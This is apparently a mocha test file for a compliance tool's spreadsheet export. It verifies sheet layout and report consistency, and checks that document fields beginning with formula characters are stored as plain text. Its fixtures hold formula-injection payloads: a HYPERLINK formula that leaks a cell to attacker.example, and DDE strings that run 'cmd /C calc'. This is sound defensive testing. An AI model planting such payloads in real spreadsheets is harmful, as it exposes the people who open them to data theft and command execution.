import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { JsonReport } from '../../src/core/reports/jsonReport.js';
import { clausemarkInProcess } from '../support/cli.js';
import { GitRepository } from '../support/gitRepository.js';
import { documentText } from '../support/repository.js';
import { readXlsx, sheetValues, type ReadSheet } from '../support/xlsxReader.js';

// Text a spreadsheet program would run as a formula if it were written as one.
const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")';
const FORMULA_OWNER = "+cmd|' /C calc'!A0";
const FORMULA_VERSION = '-2+3';
const FORMULA_APPROVER = "@SUM(1+1)*cmd|' /C calc'!A0";

const CATALOG = JSON.stringify({
  id: 'mini',
  title: 'Mini standard',
  clauses: [
    { id: '1', title: 'Group' },
    { id: '1.1', title: '=1+1 policy', parent: '1', documents: [{ description: 'a policy', types: ['policy'] }] },
    { id: '1.2', title: 'Operation', parent: '1' },
    { id: '1.3', title: 'Left out', parent: '1' },
  ],
});

function workbookRepository(): GitRepository {
  return GitRepository.create({
    'clausemark.json': JSON.stringify({ catalog: './catalog.json', exclusions: [{ clause: '1.3', justification: '-not applicable to us' }] }),
    'catalog.json': CATALOG,
    'sms/policy.md': documentText({
      id: 'POL-SMS',
      type: 'policy',
      title: `'${FORMULA_TITLE.replace(/'/g, "''")}'`,
      owner: `"${FORMULA_OWNER.replace(/"/g, '\\"')}"`,
      version: `"${FORMULA_VERSION}"`,
      approved_by: `"${FORMULA_APPROVER}"`,
      clauses: '\n  - 1.1',
    }),
    'sms/process.md': documentText({
      id: 'PRC-OPS',
      title: 'Operations',
      next_review: '2026-01-31',
      clauses: '\n  - 1.2\n  - 9.9',
      evidence: '\n  - path: ../records/log.csv\n    date: 2026-10-01\n  - url: https://tickets.example.com/report\n    date: 2020-01-01\n    clause: 1.2',
    }),
    'records/log.csv': 'day,count\n',
  });
}

const RUN_ARGS = ['--today', '2026-11-21', '--no-cache'];

describe('the workbook (clausemark export --format xlsx)', function () {
  this.timeout(60_000);
  let repository: GitRepository;
  let output: string;
  let json: JsonReport;
  let sheets: ReadSheet[];
  before(async () => {
    repository = workbookRepository();
    output = mkdtempSync(join(tmpdir(), 'clausemark-workbook-'));
    const checked = await clausemarkInProcess(['check', '--format', 'json', '--fail-on', 'never', ...RUN_ARGS], repository.root);
    assert.equal(checked.status, 0, checked.stderr);
    json = JSON.parse(checked.stdout) as JsonReport;
    const exported = await clausemarkInProcess(['export', '--format', 'xlsx', '--output', join(output, 'registers.xlsx'), ...RUN_ARGS], repository.root);
    assert.equal(exported.status, 0, exported.stderr);
    sheets = readXlsx(readFileSync(join(output, 'registers.xlsx')));
  });
  after(() => {
    repository.remove();
    rmSync(output, { recursive: true, force: true });
  });

  const sheet = (name: string): ReadSheet => {
    const found = sheets.find((candidate) => candidate.name === name);
    assert.ok(found, `the workbook has a ${name} sheet`);
    return found;
  };

  it('has one sheet per register, each with a frozen, filtered header row and sized columns', () => {
    assert.deepEqual(
      sheets.map((candidate) => candidate.name),
      ['Coverage', 'Documents', 'Evidence', 'Findings'],
    );
    for (const candidate of sheets) {
      assert.equal(candidate.frozenRows, 1, `${candidate.name}: the header row is frozen`);
      assert.match(candidate.autoFilter ?? '', /^A1:[A-Z]+\d+$/, `${candidate.name}: a filter over the columns`);
      const sized = candidate.columnWidths.filter((width) => width !== undefined);
      assert.ok(sized.length > 0 && sized.every((width) => width >= 8 && width <= 60), `${candidate.name}: columns sized`);
    }
    const widths = sheet('Documents').columnWidths;
    assert.ok((widths[1] ?? 0) > (widths[0] ?? 9), 'the long title gets a wider column than the id');
  });

  it('holds the same coverage and findings as the JSON report of the same run', () => {
    assert.ok(json.coverage.length >= 3 && json.findings.length > 0, 'the run has something to compare');
    const coverage = sheetValues(sheet('Coverage'), 7);
    assert.deepEqual(coverage[0], ['Catalog', 'Clause', 'Title', 'State', 'Reasons', 'Documents', 'Evidence']);
    const join = (values: readonly string[]): string | null => (values.length === 0 ? null : values.join('\n'));
    assert.deepEqual(
      coverage.slice(1),
      json.coverage.map((clause) => [
        json.catalog.id,
        clause.clause,
        clause.title,
        clause.status,
        // Every reason, as the one compliance model gives them: gaps, defects of an at-risk clause, or the exclusion.
        join(clause.reasons.map((reason) => reason.text)),
        join(clause.documents.map((document) => document.id)),
        join(clause.evidence.map((evidence) => `${evidence.url ?? evidence.path ?? evidence.documentId} (${evidence.state})`)),
      ]),
    );
    const findings = sheetValues(sheet('Findings'), 5);
    assert.deepEqual(findings[0], ['Rule', 'Severity', 'File', 'Line', 'Message']);
    assert.deepEqual(
      findings.slice(1),
      json.findings.map((finding) => [finding.ruleId, finding.severity, finding.file, finding.range?.start.line ?? null, finding.message]),
    );
    assert.ok(
      json.findings.some((finding) => finding.ruleId === 'clause.unknown'),
      'the unknown clause 9.9 is among them',
    );
  });

  it('writes the document and evidence registers with dates as dates and overdue reviews marked', () => {
    const documents = sheetValues(sheet('Documents'), 11);
    assert.deepEqual(documents[0], ['Id', 'Title', 'Type', 'Owner', 'Status', 'Version', 'Approved by', 'Approved on', 'Next review', 'Overdue', 'Path']);
    assert.deepEqual(documents.slice(1), [
      [
        'POL-SMS',
        FORMULA_TITLE,
        'policy',
        FORMULA_OWNER,
        'approved',
        FORMULA_VERSION,
        FORMULA_APPROVER,
        { date: '2026-03-02' },
        { date: '2027-03-02' },
        false,
        'sms/policy.md',
      ],
      [
        'PRC-OPS',
        'Operations',
        'process',
        'Service Desk Manager',
        'approved, review overdue',
        '1.0',
        'Head of Operations',
        { date: '2026-03-02' },
        { date: '2026-01-31' },
        true,
        'sms/process.md',
      ],
    ]);
    const evidence = sheetValues(sheet('Evidence'), 5);
    assert.deepEqual(evidence.slice(1), [
      ['1.2', 'PRC-OPS', 'records/log.csv', { date: '2026-10-01' }, 'current'],
      ['1.2', 'PRC-OPS', 'https://tickets.example.com/report', { date: '2020-01-01' }, 'stale'],
    ]);
    // The coverage sheet says the same of that evidence, from the JSON side.
    assert.ok(json.coverage.find((clause) => clause.clause === '1.2')?.evidence.some((item) => item.state === 'stale'));
  });

  it('writes text from documents as text: no cell anywhere is a formula, whatever it begins with', () => {
    for (const candidate of sheets) assert.ok(!/<f[\s>/]/.test(candidate.xml), `${candidate.name} has no formula element`);
    const hostile = [...sheet('Documents').rows.get(2)!.values()].filter((cell) => /^[=+\-@]/.test(cell.raw));
    assert.equal(hostile.length, 4, 'title, owner, version and approver begin with a formula prefix');
    for (const cell of hostile) assert.ok(cell.type === 's' || cell.type === 'inlineStr', `${cell.raw} is stored as a string (${cell.type})`);
    const excluded = sheetValues(sheet('Coverage'), 7).find((row) => row[1] === '1.3');
    assert.equal(excluded?.[4], 'excluded: -not applicable to us');
    assert.equal(sheetValues(sheet('Coverage'), 7).find((row) => row[1] === '1.1')?.[2], '=1+1 policy');
  });

  it('needs --output, and never replaces a file without --force', async () => {
    const missing = await clausemarkInProcess(['export', '--format', 'xlsx', ...RUN_ARGS], repository.root);
    assert.equal(missing.status, 2);
    assert.match(missing.stderr, /--output FILE is required/);
    const wrongFormat = await clausemarkInProcess(['export', '--format', 'ods', '--output', join(output, 'x.ods')], repository.root);
    assert.equal(wrongFormat.status, 2);
    assert.match(wrongFormat.stderr, /--format must be one of xlsx/);

    const file = join(output, 'kept.xlsx');
    writeFileSync(file, 'kept');
    const again = await clausemarkInProcess(['export', '--output', file, ...RUN_ARGS], repository.root);
    assert.equal(again.status, 2);
    assert.match(again.stderr, /already exists; it was left as it is \(use --force to replace it\)/);
    assert.equal(readFileSync(file, 'utf8'), 'kept');
    const forced = await clausemarkInProcess(['export', '--output', file, '--force', ...RUN_ARGS], repository.root);
    assert.equal(forced.status, 0, forced.stderr);
    assert.equal(readXlsx(readFileSync(file)).length, 4);
  });
});
